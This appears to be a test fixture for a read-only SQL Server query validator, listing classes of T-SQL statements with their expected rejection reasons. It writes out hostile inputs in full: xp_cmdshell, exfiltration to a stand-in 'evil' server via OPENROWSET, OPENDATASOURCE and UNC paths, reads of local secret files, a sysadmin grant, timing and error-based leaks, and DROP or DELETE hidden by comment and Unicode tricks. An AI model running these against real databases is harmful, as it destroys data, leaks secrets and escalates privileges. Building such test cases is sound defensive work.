-- class: dml_direct
-- reason: changes_data
UPDATE s SET flag = 'XX' FROM ship AS s JOIN crew AS c ON c.ship_id = s.id
-- reason: changes_data
DELETE TOP (5) FROM dbo.voyage
-- reason: changes_data
MERGE dbo.ship AS t USING dbo.crew AS s ON t.id = s.ship_id WHEN MATCHED THEN DELETE;
-- class: dml_returning
-- reason: changes_data
DELETE FROM crew OUTPUT deleted.name, deleted.pay
-- reason: changes_data
INSERT INTO ship (id) OUTPUT inserted.id VALUES (9)
-- class: cte_dml
-- reason: changes_data
WITH old AS (SELECT TOP (3) * FROM voyage ORDER BY departed) DELETE FROM old
-- reason: changes_data
;WITH x AS (SELECT 1 AS id) UPDATE ship SET flag = 'x' FROM x WHERE x.id = ship.id
-- class: truncate
-- reason: changes_data
TRUNCATE TABLE dbo.crew
-- reason: changes_data
TRUNCATE TABLE ship WITH (PARTITIONS (1))
-- class: ddl_direct
-- reason: changes_data
ALTER TABLE ship ADD owner NVARCHAR(20)
-- reason: changes_data
DROP INDEX ix ON ship
-- reason: changes_data
CREATE TABLE #scratch (id INT)
-- class: ddl_code_object
-- reason: changes_data
CREATE OR ALTER PROCEDURE p AS SELECT 1
-- reason: changes_data, several_statements
CREATE TRIGGER t ON ship AFTER INSERT AS DELETE FROM crew
-- class: dcl
-- reason: changes_data
GRANT SELECT ON dbo.vault TO reader
-- reason: changes_data, not_a_read, not_parsed
ALTER SERVER ROLE sysadmin ADD MEMBER reader
-- reason: changes_data, not_a_read, not_parsed
DENY SELECT ON ship TO reader
-- class: user_variable
-- reason: changes_data, several_statements
DECLARE @t TABLE (x INT); INSERT @t SELECT id FROM ship; SELECT * FROM @t
-- reason: placeholder
SELECT @name = name FROM ship
-- class: multi_statement
-- reason: several_statements
SELECT 1; DELETE FROM ship
-- reason: several_statements, not_parsed
SELECT name FROM ship SELECT code FROM vault
-- class: keyword_as_alias
-- reason: reserved_alias
SELECT 1 RECONFIGURE
-- reason: reserved_alias
SELECT name FROM ship CHECKPOINT
-- reason: reserved_alias, not_parsed
SELECT id ROLLBACK FROM ship
-- reason: reserved_alias
SELECT * FROM (SELECT 1 AS x) SHUTDOWN
-- class: command_exec
-- reason: changes_data, not_a_read
EXEC master..xp_cmdshell 'dir'
-- reason: changes_data, not_a_read
EXECUTE sp_OACreate 'WScript.Shell', 1
-- class: quoted_identifier_function
-- reason: changes_data, not_a_read
EXEC "sp_configure" 'show advanced options', 1
-- reason: function_not_allowed
SELECT [db_name]()
-- class: stored_proc_call
-- reason: changes_data, not_a_read
EXEC dbo.purge @days = 3
-- reason: not_a_read, changes_data, not_parsed
sp_helptext 'dbo.purge'
-- class: dynamic_sql
-- reason: changes_data, not_a_read
EXEC (N'DELETE FROM ship')
-- reason: changes_data, not_a_read
EXEC sp_executesql N'SELECT * FROM vault'
-- class: sql_in_string
-- reason: function_not_allowed, not_parsed
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')
-- reason: function_not_allowed, not_parsed
SELECT o.* FROM ship JOIN OPENQUERY(linked, 'SELECT * FROM vault') o ON o.id = ship.id
-- class: network_egress
-- reason: function_not_allowed, not_parsed, other_database, user_function
SELECT * FROM OPENDATASOURCE('MSOLEDBSQL', 'Server=evil').x.dbo.t
-- reason: function_not_allowed, system_catalog, user_function
SELECT * FROM sys.fn_get_audit_file('\\evil\x', DEFAULT, DEFAULT)
-- class: file_read_function
-- reason: function_not_allowed, not_parsed
SELECT BulkColumn FROM OPENROWSET(BULK 'C:\secret.txt', SINGLE_CLOB) AS x
-- reason: function_not_allowed, system_catalog, user_function
SELECT * FROM sys.fn_xe_file_target_read_file('x*.xel', NULL, NULL, NULL)
-- class: file_list_function
-- reason: changes_data, not_a_read
EXEC xp_dirtree 'C:\', 1, 1
-- reason: system_catalog, function_not_allowed, user_function
SELECT * FROM sys.dm_os_enumerate_filesystem('C:\', '*')
-- class: file_import_statement
-- reason: changes_data, not_a_read, not_parsed
BULK INSERT ship FROM '\\evil\x.csv'
-- reason: changes_data, not_a_read, not_parsed
CREATE EXTERNAL TABLE e (x INT) WITH (LOCATION = 'wasbs://x', DATA_SOURCE = d)
-- class: select_into
-- reason: changes_data
SELECT name, pay INTO dbo.copied FROM crew
-- reason: changes_data
SELECT * INTO ##everyone FROM ship
-- class: role_change
-- reason: changes_data, not_a_read, not_parsed
EXECUTE AS USER = 'dbo'
-- reason: not_a_read, changes_data, not_parsed
REVERT
-- class: server_admin
-- reason: changes_data, not_a_read, not_parsed
DBCC FREEPROCCACHE
-- reason: changes_data, not_a_read, not_parsed
BACKUP DATABASE harbour TO DISK = 'C:\x.bak'
-- reason: changes_data, not_a_read, not_parsed
ALTER DATABASE harbour SET TRUSTWORTHY ON
-- class: session_kill
-- reason: changes_data, not_a_read
KILL 53
-- reason: changes_data, not_a_read
KILL 53 WITH STATUSONLY
-- class: session_config_change
-- reason: changes_data
SET IDENTITY_INSERT ship ON
-- reason: changes_data
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
-- reason: changes_data
SET CONTEXT_INFO 0x01
-- class: sleep_delay
-- reason: not_a_read, changes_data, not_parsed
WAITFOR TIME '23:00'
-- reason: several_statements, not_parsed, reserved_alias
SELECT name FROM ship; WAITFOR DELAY '00:00:10'
-- class: timing_inference
-- reason: not_a_read, changes_data, not_parsed
IF (SELECT COUNT(*) FROM vault) > 0 WAITFOR DELAY '0:0:5'
-- reason: unknown_table
SELECT CASE WHEN (SELECT TOP 1 code FROM vault) LIKE 'p%' THEN (SELECT COUNT_BIG(*) FROM crew a, crew b) END
-- class: scripting_block
-- reason: not_a_read, changes_data, not_parsed
BEGIN TRY DELETE FROM ship END TRY BEGIN CATCH END CATCH
-- reason: not_a_read, changes_data, not_parsed
WHILE 1 = 1 SELECT 1
-- reason: not_a_read, changes_data, not_parsed
IF EXISTS (SELECT 1 FROM ship) DROP TABLE ship ELSE SELECT 1
-- class: cross_database_access
-- reason: other_database, system_catalog
SELECT name FROM msdb.dbo.sysjobs
-- reason: other_database
SELECT * FROM otherdb..ship
-- reason: other_database
SELECT * FROM linked.harbour.dbo.vault
-- class: catalog_enumeration
-- reason: system_catalog
SELECT name FROM sys.columns
-- reason: system_catalog, unknown_table
SELECT * FROM sysobjects
-- reason: system_catalog
SELECT * FROM INFORMATION_SCHEMA.TABLES
-- reason: function_not_allowed
SELECT OBJECT_ID('dbo.vault'), OBJECT_DEFINITION(1)
-- class: ungranted_table
-- reason: unknown_table
SELECT * FROM ship CROSS APPLY (SELECT code FROM dbo.vault) v
-- reason: unknown_table
SELECT TOP (1) WITH TIES code FROM [vault] ORDER BY id
-- reason: unknown_table
SELECT STRING_AGG(code, ',') WITHIN GROUP (ORDER BY id) FROM vault
-- class: error_based_exfil
-- reason: unknown_table
SELECT CONVERT(INT, (SELECT TOP 1 code FROM vault))
-- reason: unknown_table
SELECT 1 / (SELECT COUNT(*) - 1 FROM vault)
-- class: explain_leak
-- reason: changes_data
SET SHOWPLAN_ALL ON
-- reason: changes_data
SET STATISTICS PROFILE ON
-- class: lock_hint
-- reason: takes_locks
SELECT * FROM ship WITH (UPDLOCK, ROWLOCK)
-- reason: takes_locks
SELECT * FROM ship (XLOCK) JOIN crew ON crew.ship_id = ship.id
-- class: hint_override
-- reason: construct_not_allowed
SELECT * FROM ship OPTION (MAXDOP 64)
-- reason: construct_not_allowed
SELECT * FROM ship OPTION (QUERYTRACEON 9481, RECOMPILE)
-- class: column_mask_bypass
-- reason: unknown_column
SELECT c.[pay] FROM crew c
-- reason: unknown_column
SELECT name FROM crew ORDER BY email OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY
-- reason: unknown_column
SELECT name FROM crew WHERE PATINDEX('%@%', email) > 0
-- class: rls_bypass
-- reason: construct_not_allowed
SELECT * FROM voyage FOR SYSTEM_TIME AS OF '2024-01-01'
-- reason: unknown_table
SELECT * FROM dbo.voyage_history
-- class: recursive_cte_bomb
-- reason: construct_not_allowed
WITH t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT COUNT(*) FROM t OPTION (MAXRECURSION 0)
-- reason: construct_not_allowed
WITH t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 9) SELECT n FROM t OPTION (MAXRECURSION 32767)
-- class: cartesian_bomb
-- reason: unconnected_tables
SELECT COUNT_BIG(*) FROM voyage a CROSS JOIN voyage b CROSS JOIN voyage c CROSS JOIN crew d
-- reason: series_too_long
SELECT COUNT(*) FROM GENERATE_SERIES(1, 900000) a, GENERATE_SERIES(1, 900000) b
-- class: series_bomb
-- reason: series_too_long
SELECT SUM(value) FROM GENERATE_SERIES(CAST(1 AS BIGINT), 9000000000)
-- reason: series_too_long
SELECT value FROM GENERATE_SERIES(1, 10, 0)
-- class: memory_bomb
-- reason: text_too_long
SELECT LEN(REPLICATE(CAST('x' AS VARCHAR(MAX)), 900000000))
-- reason: text_too_long
SELECT REPLACE(REPLICATE('x', 50000), 'x', SPACE(50000))
-- class: limit_evasion
-- reason: limit_not_a_number
SELECT TOP 50 PERCENT * FROM voyage
-- reason: limit_not_a_number, placeholder
SELECT TOP (@n) * FROM voyage
-- class: sequence_side_effect
-- reason: function_not_allowed
SELECT NEXT VALUE FOR dbo.seq AS n FROM ship
-- reason: function_not_allowed
SELECT SCOPE_IDENTITY(), IDENT_CURRENT('ship')
-- class: secret_read
-- reason: function_not_allowed
SELECT SERVERPROPERTY('ComputerNamePhysicalNetBIOS'), HOST_NAME()
-- reason: placeholder
SELECT @@SERVERNAME, @@VERSION
-- class: unicode_keyword
-- reason: not_parsed, changes_data, not_a_read
ＤＲＯＰ TABLE ship
-- reason: forbidden_character, escaped
DRO\u200dP TABLE ship
-- class: client_meta_command
-- reason: client_command
SELECT 1
GO
-- reason: client_command
:connect evil
-- class: comment_hidden_statement
-- reason: changes_data
/* SELECT */ DELETE FROM ship
-- reason: several_statements
SELECT 1 -- x
; DROP TABLE ship
-- class: comment_keyword_split
-- reason: changes_data
DELETE/**/FROM/**/ship
-- reason: changes_data
DROP--x
TABLE ship
-- class: comment_nesting_differential
-- reason: several_statements
SELECT 1 /* a /* b */ */; DELETE FROM ship
-- reason: changes_data
/* /* x */ y */ DELETE FROM ship
-- class: placeholder_smuggling
-- reason: placeholder
SELECT name FROM ship WHERE id = @id
-- reason: placeholder
SELECT ?, @p1
